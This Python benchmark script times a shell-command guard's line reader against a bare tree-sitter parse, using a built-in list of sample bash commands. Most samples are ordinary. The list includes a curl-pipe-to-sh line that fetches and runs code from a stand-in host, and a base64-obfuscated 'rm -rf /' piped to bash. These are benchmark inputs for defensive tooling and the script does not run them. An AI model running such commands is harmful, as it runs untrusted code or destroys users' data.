"""How long reading a line takes, beside the bare parse of the same line by tree-sitter, in the same run.

    python bench/syntax.py [FILE of lines]

The last tab-separated column but one of a ``label<TAB>line<TAB>note`` file is taken as the line, ``⏎`` as a newline.
"""

from __future__ import annotations

import statistics
import sys
import time
from collections.abc import Callable
from pathlib import Path

import tree_sitter
import tree_sitter_bash

from vectra_guard import syntax
from vectra_guard.model import Facts, Request

SAMPLE = [
    "git status",
    "ls -la src",
    "cd web && npm install",
    "make -j8 2>&1 | tee build.log",
    'for f in *.py; do wc -l "$f"; done',
    "rm -rf node_modules/",
    "docker run --rm -it -v \"$PWD\":/w alpine sh -c 'ls /w | wc -l'",
    "grep -rn 'TODO' src | awk '{print $1}' | sort | uniq -c",
    "curl -fsSL https://x.example/i.sh | sh",
    'git commit -m "fix: the thing (again)"',
    "find . -name '*.pyc' -print0 | xargs -0 rm -f",
    'export PATH="$HOME/bin:$PATH"',
    "kubectl get pods -n prod",
    "echo cm0gLXJmIC8= | base64 -d | bash",
    "sudo -u www-data env X=1 nice -n 5 sh -c 'rm -rf /var/cache/x'",
    "if [ -f .env ]; then source .env; fi",
]


def best(run: Callable[[], object], times: int = 15) -> float:
    """Microseconds: the fastest of several runs, since other programs share the machine."""
    found = float("inf")
    for _ in range(times):
        start = time.perf_counter()
        run()
        found = min(found, time.perf_counter() - start)
    return found * 1e6


def main() -> None:
    lines = SAMPLE
    if len(sys.argv) > 1:
        rows = [r for r in Path(sys.argv[1]).read_text().splitlines() if "\t" in r and not r.startswith("#")]
        lines = [r.split("\t")[1].replace("⏎", "\n") for r in rows]
    parser = tree_sitter.Parser(tree_sitter.Language(tree_sitter_bash.language()))
    facts = Facts(user="dev")
    ours, bare = [], []
    for line in lines:
        request = Request(line, "bash", "/home/dev/app", "/home/dev")
        data = line.encode("utf-8", "surrogateescape")
        ours.append(best(lambda r=request: syntax.read(r, facts)))  # type: ignore[misc]
        bare.append(best(lambda d=data: parser.parse(d)))  # type: ignore[misc]
    ordered = sorted(ours)
    print(f"lines                 {len(lines)}")
    print(f"read, median          {statistics.median(ours):8.1f} µs")
    print(f"read, p99             {ordered[int(len(ordered) * 0.99)]:8.1f} µs")
    print(f"bare parse, median    {statistics.median(bare):8.1f} µs")
    print(f"ratio of the medians  {statistics.median(ours) / statistics.median(bare):8.1f}")
    quick = Request("git log --oneline -n 5", "bash", "/home/dev/app", "/home/dev")
    print(f"fast path             {best(lambda: syntax.read(quick, facts), 200):8.1f} µs")
    plain = Request("ls -la src/x", "bash", "/home/dev/app", "/home/dev")
    print(f"fast path, 3 words    {best(lambda: syntax.read(plain, facts), 200):8.1f} µs")
    for name, text in (
        ("words", "echo " + "word " * 20_000),
        ("commands", "echo word; " * 9_000),
        ("quotes", 'echo "a $x b" ' * 7_000),
    ):
        big = Request(text, "bash", "/", "/h")
        print(f"100 KB of {name:<12}{best(lambda r=big: syntax.read(r, facts), 3) / 1000:8.1f} ms")  # type: ignore[misc]


if __name__ == "__main__":
    main()
